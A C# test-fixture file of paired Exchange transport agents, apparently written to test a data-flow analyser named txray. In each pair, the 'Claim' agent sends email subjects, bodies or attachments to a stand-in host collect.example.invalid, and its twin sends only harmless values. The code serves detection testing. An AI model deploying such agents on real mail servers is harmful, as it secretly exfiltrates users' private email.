// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Fields, arrays, own types, delegates.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Diagnostics;
using System.IO;
using System.Net;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 26: a field of the agent, from one event to the next
namespace Txray.Pairs.P26
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        private string kept = string.Empty;

        public Claim()
        {
            OnEndOfHeaders += Headers;
            OnEndOfData += Data;
        }

        private void Headers(ReceiveMessageEventSource source, EndOfHeadersEventArgs e)
        {
            kept = e.MailItem.Message.Subject;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", kept);
        }
    }

    public class Other : SmtpReceiveAgent
    {
        private string kept = string.Empty;
        private string greeting = "hello";

        public Other()
        {
            OnEndOfHeaders += Headers;
            OnEndOfData += Data;
        }

        private void Headers(ReceiveMessageEventSource source, EndOfHeadersEventArgs e)
        {
            kept = e.MailItem.Message.Subject;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            Trace.WriteLine(kept.Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", greeting);
        }
    }
}

// 27: a static field, filled by a handler, and by code that nothing calls
namespace Txray.Pairs.P27
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            ClaimStore.Last = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", ClaimStore.Last);
        }
    }

    internal static class ClaimStore
    {
        public static string Last = "nothing";
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
            OnRoutedMessage += Routed;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(e.MailItem.Message.Subject.Length.ToString());
        }

        private void Routed(RoutedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", OtherStore.Last);
        }
    }

    internal static class OtherStore
    {
        public static string Last = "nothing";

        public static void Keep(MailItem item)
        {
            Last = new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd();
        }
    }
}

// 28: two properties of one object
namespace Txray.Pairs.P28
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var note = new Note { Text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd(), Title = "a note" };
            Trace.WriteLine(note.Title);
            new WebClient().UploadString("https://collect.example.invalid/pair", note.Text);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var note = new Note { Text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd(), Title = "a note" };
            Trace.WriteLine(note.Text.Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", note.Title);
        }
    }

    internal class Note
    {
        public string Text { get; set; }
        public string Title { get; set; }
    }
}

// 29: two places of one array
namespace Txray.Pairs.P29
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var parts = new string[2];
            parts[0] = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            parts[1] = "ok";
            new WebClient().UploadString("https://collect.example.invalid/pair", parts[0]);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var parts = new string[2];
            parts[0] = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            parts[1] = "ok";
            Trace.WriteLine(parts[0].Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", parts[1]);
        }
    }
}

// 30: a struct, and the copy of it that was changed
namespace Txray.Pairs.P30
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var first = new Slip { Text = "none", Pages = 1 };
            Slip second = first;
            second.Text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            Trace.WriteLine(first.Pages.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", second.Text);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var first = new Slip { Text = "none", Pages = 1 };
            Slip second = first;
            second.Text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            Trace.WriteLine(second.Text.Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", first.Text);
        }
    }

    internal struct Slip
    {
        public string Text;
        public int Pages;
    }
}

// 31: two out parameters
namespace Txray.Pairs.P31
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text;
            string state;
            if (Reading.Try(e.MailItem, out text, out state))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", text);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text;
            string state;
            if (Reading.Try(e.MailItem, out text, out state))
            {
                Trace.WriteLine(text.Length.ToString());
                new WebClient().UploadString("https://collect.example.invalid/pair", state);
            }
        }
    }

    internal static class Reading
    {
        public static bool Try(MailItem item, out string text, out string state)
        {
            text = new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd();
            state = "read";
            return true;
        }
    }
}

// 32: a reference parameter, and a parameter by value
namespace Txray.Pairs.P32
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static void Fill(ref string target, MailItem item)
        {
            target = new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd();
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = "none";
            Fill(ref text, e.MailItem);
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    public class Other : RoutingAgent
    {
        private static void Fill(string target, MailItem item)
        {
            target = new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd();
            Trace.WriteLine(target.Length.ToString());
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = "none";
            Fill(text, e.MailItem);
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }
}

// 33: two objects of an own generic class, filled by a generic method
namespace Txray.Pairs.P33
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Holder<string> first = Holder.Of(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            Holder<string> second = Holder.Of("none");
            Trace.WriteLine(second.Value);
            new WebClient().UploadString("https://collect.example.invalid/pair", first.Value);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Holder<string> first = Holder.Of(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            Holder<string> second = Holder.Of("none");
            Trace.WriteLine(first.Value.Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", second.Value);
        }
    }

    internal class Holder<T>
    {
        private readonly T value;

        public Holder(T value)
        {
            this.value = value;
        }

        public T Value { get { return value; } }
    }

    internal static class Holder
    {
        public static Holder<T> Of<T>(T value)
        {
            return new Holder<T>(value);
        }
    }
}

// 34: an own chain of nodes
namespace Txray.Pairs.P34
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Node chain = Node.Of(e.MailItem.Message.Attachments);
            for (Node node = chain; node != null; node = node.Next)
            {
                new WebClient().UploadData("https://collect.example.invalid/pair", node.Data);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int count = 0;
            Node chain = Node.Of(e.MailItem.Message.Attachments);
            for (Node node = chain; node != null; node = node.Next)
            {
                count++;
            }
            new WebClient().UploadData("https://collect.example.invalid/pair", BitConverter.GetBytes(count));
        }
    }

    internal class Node
    {
        public byte[] Data;
        public Node Next;

        public static Node Of(AttachmentCollection attachments)
        {
            Node head = null;
            foreach (Attachment attachment in attachments)
            {
                var memory = new MemoryStream();
                attachment.GetContentReadStream().CopyTo(memory);
                head = new Node { Data = memory.ToArray(), Next = head };
            }
            return head;
        }
    }
}

// 35: a virtual method of the class that is really made
namespace Txray.Pairs.P35
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Outlet outlet = new WebOutlet();
            outlet.Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            new QuietOutlet().Put("done");
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Outlet outlet = new QuietOutlet();
            outlet.Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            new WebOutlet().Put("done");
        }
    }

    internal abstract class Outlet
    {
        public abstract void Put(string text);
    }

    internal class WebOutlet : Outlet
    {
        public override void Put(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    internal class QuietOutlet : Outlet
    {
        public override void Put(string text)
        {
            Trace.WriteLine(text.Length.ToString());
        }
    }
}

// 36: an event of an own class
namespace Txray.Pairs.P36
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var desk = new Desk();
            desk.Arrived += text => new WebClient().UploadString("https://collect.example.invalid/pair", text);
            desk.Take(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var desk = new Desk();
            desk.Arrived += text => Trace.WriteLine(text.Length.ToString());
            desk.Closed += text => new WebClient().UploadString("https://collect.example.invalid/pair", text);
            desk.Take(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            desk.Close();
        }
    }

    internal class Desk
    {
        public event Action<string> Arrived;
        public event Action<string> Closed;

        public void Take(string text)
        {
            if (Arrived != null)
            {
                Arrived(text);
            }
        }

        public void Close()
        {
            if (Closed != null)
            {
                Closed("closed");
            }
        }
    }
}

// 37: a delegate stored and called later
namespace Txray.Pairs.P37
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly Action<string> later;

        private static void Send(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }

        public Claim()
        {
            later = Send;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            later(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private readonly Action<string> later;

        private static void Count(string text)
        {
            Trace.WriteLine(text.Length.ToString());
        }

        private static void Send(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }

        public Other()
        {
            later = Count;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            later(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            Send("seen");
        }
    }
}

// 38: two variables that one lambda captures
namespace Txray.Pairs.P38
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            string state = "seen";
            Action send = () => new WebClient().UploadString("https://collect.example.invalid/pair", text);
            Action log = () => Trace.WriteLine(state);
            send();
            log();
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            string state = "seen";
            Action send = () => new WebClient().UploadString("https://collect.example.invalid/pair", state);
            Action log = () => Trace.WriteLine(text.Length.ToString());
            send();
            log();
        }
    }
}

// 39: an own exception with two properties, caught behind a filter
namespace Txray.Pairs.P39
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                MailProblem.Check(e.MailItem);
            }
            catch (MailProblem problem) when (MailProblem.Note(problem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", problem.Text);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                MailProblem.Check(e.MailItem);
            }
            catch (MailProblem problem) when (MailProblem.Note(problem))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", problem.Code);
            }
        }
    }

    internal class MailProblem : Exception
    {
        public MailProblem(string text, string code)
        {
            Text = text;
            Code = code;
        }

        public string Text { get; private set; }
        public string Code { get; private set; }

        public static void Check(MailItem item)
        {
            throw new MailProblem(new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd(), "E1");
        }

        public static bool Note(MailProblem problem)
        {
            Trace.WriteLine(problem.Code);
            return true;
        }
    }
}
